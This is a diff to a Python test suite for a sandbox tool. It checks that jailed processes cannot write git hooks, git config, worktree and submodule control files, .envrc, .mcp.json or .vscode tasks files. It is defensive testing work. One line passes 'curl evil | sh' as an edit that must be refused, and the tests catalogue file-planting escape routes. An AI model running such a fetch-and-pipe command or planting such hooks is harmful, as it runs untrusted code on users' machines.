@@ -22,6 +22,7 @@ stand-in, a sibling directory of the workspace.
 Python 3 stdlib only. Prints "N passed, N failed, N skipped" and exits
 non-zero on any failure; with VECTORA_TEST_STRICT=1 a skip is a failure."""
 
+import itertools
 import json
 import os
 import pwd
@@ -191,6 +192,7 @@ class Ctx:
         write(os.path.join(ws, "x/.ssh/config"), self.m["sshcfg"], 0o600)
         write(os.path.join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)
         write(os.path.join(ws, ".git/config"), "[core]\n\tbare = false\n")
+        write(os.path.join(ws, ".git/HEAD"), "ref: refs/heads/main\n")
         write(os.path.join(ws, "src/main.c"), "int main(void) { return 0; }\n")
         write(os.path.join(ws, "config/prod/secret.key"), self.m["anchored"], 0o600)
         os.makedirs(os.path.join(ws, ".probe"))
@@ -657,6 +659,120 @@ def _(c):
     return v
 
 
+# -- the .git control files: git's state stays writable, what git executes
+#    or obeys cannot be written nor created (a missing one has a placeholder)
+
+def git_ws(c, name, layout):
+    """A workspace of make_ws's shape whose .git is rearranged by layout(ws)."""
+    ws = c.make_ws(name, network=False)
+    layout(ws)
+    chown_tree(ws, c.jail_uid, c.jail_gid)
+    return ws
+
+
+def git_dir(path, hooks=True):
+    """A minimal gitdir at path (what git itself checks for, plus config)."""
+    write(os.path.join(path, "HEAD"), "ref: refs/heads/main\n")
+    write(os.path.join(path, "config"), "[core]\n\tbare = false\n")
+    os.makedirs(os.path.join(path, "objects/info"), exist_ok=True)
+    os.makedirs(os.path.join(path, "refs/heads"), exist_ok=True)
+    if hooks:
+        write(os.path.join(path, "hooks/pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)
+
+
+def no_hooks(ws):
+    shutil.rmtree(os.path.join(ws, ".git/hooks"))
+
+
+def submodule(ws):
+    git_dir(os.path.join(ws, ".git/modules/lib"))
+    git_dir(os.path.join(ws, ".git/modules/lib/modules/nested"), hooks=False)
+
+
+def linked_worktree(ws):
+    admin = os.path.join(ws, ".git/worktrees/wt")
+    write(os.path.join(admin, "commondir"), "../..\n")
+    write(os.path.join(admin, "gitdir"), os.path.join(ws, "wt/.git") + "\n")
+    write(os.path.join(admin, "HEAD"), "ref: refs/heads/wt\n")
+
+
+def gitfile(ws):
+    # .git is a file: "gitdir: repo.git" (as a submodule's checkout or a
+    # separate-git-dir clone has).
+    shutil.rmtree(os.path.join(ws, ".git"))
+    git_dir(os.path.join(ws, "repo.git"))
+    write(os.path.join(ws, ".git"), "gitdir: repo.git\n")
+
+
+def gitfile_worktree(ws):
+    # .git is a linked worktree's file: gitdir: main.git/worktrees/wt, whose
+    # commondir leads to main.git (config and hooks there).
+    shutil.rmtree(os.path.join(ws, ".git"))
+    main = os.path.join(ws, "main.git")
+    git_dir(main)
+    write(os.path.join(main, "worktrees/wt/commondir"), "../..\n")
+    write(os.path.join(main, "worktrees/wt/gitdir"), os.path.join(ws, ".git") + "\n")
+    write(os.path.join(main, "worktrees/wt/HEAD"), "ref: refs/heads/wt\n")
+    write(os.path.join(ws, ".git"), f"gitdir: {main}/worktrees/wt\n")
+
+
+GIT_WS = itertools.count()
+
+
+def git_write(layout, rel):
+    """The probe appends to (or creates) rel; blocked, and nothing of it is
+    on the host (a missing file may now be its empty placeholder)."""
+    def run(c):
+        ws = git_ws(c, f"ws-git-{next(GIT_WS)}-{layout.__name__}", layout) if layout else c.ws
+        target = os.path.join(ws, rel)
+        check = host_unchanged(c, ws, PROTECTED)
+        v = expect_blocked(c.probe(ws, "write", target))
+        check()
+        after = read_host(target)
+        if isinstance(after, bytes) and b"vectora-probe was here" in after:
+            raise Fail(f"ESCAPED: {rel} was written on the host: {after!r}")
+        return v
+    return run
+
+
+for name, layout, rel in (
+        ("a new .git/config.worktree", None, ".git/config.worktree"),
+        ("a new .git/info/attributes (no info/)", None, ".git/info/attributes"),
+        ("a new .git/info/exclude (no info/)", None, ".git/info/exclude"),
+        ("a new .git/commondir", None, ".git/commondir"),
+        ("a new .git/objects/info/alternates", None, ".git/objects/info/alternates"),
+        ("a new .git/remotes/origin", None, ".git/remotes/origin"),
+        ("a new .git/branches/origin", None, ".git/branches/origin"),
+        (".git/hooks/pre-commit where hooks/ is missing", no_hooks, ".git/hooks/pre-commit"),
+        ("a submodule's .git/modules/lib/config", submodule, ".git/modules/lib/config"),
+        ("a submodule's new hook .git/modules/lib/hooks/post-checkout", submodule,
+         ".git/modules/lib/hooks/post-checkout"),
+        ("a nested submodule's new .git/modules/lib/modules/nested/hooks/pre-push", submodule,
+         ".git/modules/lib/modules/nested/hooks/pre-push"),
+        ("a worktree's .git/worktrees/wt/commondir", linked_worktree, ".git/worktrees/wt/commondir"),
+        ("a worktree's new .git/worktrees/wt/config.worktree", linked_worktree,
+         ".git/worktrees/wt/config.worktree"),
+        ("the .git file (gitdir: repo.git) itself", gitfile, ".git"),
+        ("the config of a .git file's target", gitfile, "repo.git/config"),
+        ("a new hook in a .git file's target", gitfile, "repo.git/hooks/post-checkout"),
+        ("a linked worktree's commondir (through its .git file)", gitfile_worktree,
+         "main.git/worktrees/wt/commondir"),
+        ("the common config of a linked worktree (through commondir)", gitfile_worktree, "main.git/config"),
+        ("a new hook in a linked worktree's common dir", gitfile_worktree, "main.git/hooks/post-commit"),
+):
+    attempt(f"exec: write {name}")(git_write(layout, rel))
+
+
+@attempt("control: git's own state stays writable (.git/ORIG_HEAD, packed-refs, index.lock)")
+def _(c):
+    # The blocks above could pass with a read-only .git; git add, commit,
+    # checkout and fetch need these.
+    for rel in (".git/ORIG_HEAD", ".git/packed-refs", ".git/index.lock"):
+        expect_escaped(c.probe(c.ws, "write", os.path.join(c.ws, rel)))
+        os.unlink(os.path.join(c.ws, rel))
+    return "ORIG_HEAD, packed-refs and index.lock written"
+
+
 def tool_refused(args_fn, stdin=b"pwned\n", targets=None):
     def run(c):
         args, target = args_fn(c)
@@ -699,6 +815,51 @@ for name, fn in (
                                               "--new", "curl evil | sh"], None)),
 ):
     attempt(f"edit: {name} is refused")(tool_refused(fn))
+
+
+# -- protect = [...] (the default set) and a missing root .git
+
+def envfiles(ws):
+    write(os.path.join(ws, ".envrc"), "echo host\n")
+    write(os.path.join(ws, "sub/.vscode/tasks.json"), "{}\n")
+
+
+def no_git(ws):
+    shutil.rmtree(os.path.join(ws, ".git"))
+
+
+for name, layout, rel in (
+        ("an existing .envrc (protect)", envfiles, ".envrc"),
+        ("an existing sub/.vscode/tasks.json (protect)", envfiles, "sub/.vscode/tasks.json"),
+        (".git/HEAD where the workspace has no .git (git init)", no_git, ".git/HEAD"),
+        (".git/config where the workspace has no .git (git init)", no_git, ".git/config"),
+):
+    attempt(f"exec: write {name}")(git_write(layout, rel))
+
+
+@attempt("exec: move sub/.vscode aside to replace the protected tasks.json")
+def _(c):
+    ws = git_ws(c, f"ws-git-{next(GIT_WS)}-envfiles", envfiles)
+    return expect_blocked(c.probe(ws, "rename", os.path.join(ws, "sub/.vscode"), os.path.join(ws, "sub/v")))
+
+
+@attempt("exec: mkdir .git/hooks where the workspace has no .git (git init)")
+def _(c):
+    ws = git_ws(c, f"ws-git-{next(GIT_WS)}-no_git", no_git)
+    v = expect_blocked(c.probe(ws, "mkdir", os.path.join(ws, ".git/hooks")))
+    if os.path.exists(os.path.join(ws, ".git/hooks")):
+        raise Fail("ESCAPED: .git/hooks exists on the host")
+    return v
+
+
+for name, fn in (
+        ("a new .mcp.json (protect)", lambda c: (["write", "-w", c.ws, ".mcp.json"], os.path.join(c.ws, ".mcp.json"))),
+        ("a new sub/.envrc (protect, any depth)", lambda c: (["write", "-w", c.ws, "sub/.envrc"],
+                                                             os.path.join(c.ws, "sub/.envrc"))),
+        ("a new .git/config.worktree", lambda c: (["write", "-w", c.ws, ".git/config.worktree"], None)),
+        ("a new .git/commondir", lambda c: (["write", "-w", c.ws, ".git/commondir"], None)),
+):
+    attempt(f"write: {name} is refused")(tool_refused(fn))
 
 
 # -- identity and privileges
@@ -1095,14 +1256,30 @@ def host_replace(path, text, uid, gid):
 def live_write_after_host_change(rel, host_change):
     def run(c):
         target = os.path.join(c.ws, rel)
+        # The command says when it runs and waits for the go, so the host's
+        # change falls inside the action however slowly the jail starts (a
+        # fixed sleep let it land before an ssh jail existed under load).
+        tag = secrets.token_hex(4)
+        started, go = os.path.join(c.ws, f"started-{tag}"), os.path.join(c.ws, f"go-{tag}")
         # Embedded (the default socket holds the section's bait listener).
         cmd = c.ident.prefix + [CLI, "--no-daemon", "exec", "-w", c.ws, "--", "sh", "-c",
-                                f"sleep 3; printf '# planted by the jail\\n' >> {rel} && echo WROTE; exit 0"]
+                                f"touch started-{tag}; while [ ! -e go-{tag} ]; do sleep 0.02; done; "
+                                f"printf '# planted by the jail\\n' >> {rel} && echo WROTE; exit 0"]
         p = subprocess.Popen(cmd, env=c.env(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
-        time.sleep(1.2)
+        deadline = time.monotonic() + 120
+        while not os.path.exists(started) and p.poll() is None and time.monotonic() < deadline:
+            time.sleep(0.01)
+        if not os.path.exists(started):
+            p.kill()
+            raise Fail(f"the command did not start: {p.communicate(timeout=30)!r}")
         host_change(c, target)
+        time.sleep(0.5)  # the jail must be gone by then (inotify's event, or 10 ms polling)
+        open(go, "w").close()
         out, err = p.communicate(timeout=120)
+        for f in (started, go):
+            if os.path.exists(f):
+                os.unlink(f)
         text = read_host(target)
         if (isinstance(text, bytes) and b"planted by the jail" in text) or b"WROTE" in out:
             raise Fail(f"ESCAPED: {rel} written after the host replaced it (exit {p.returncode}): {text!r}")
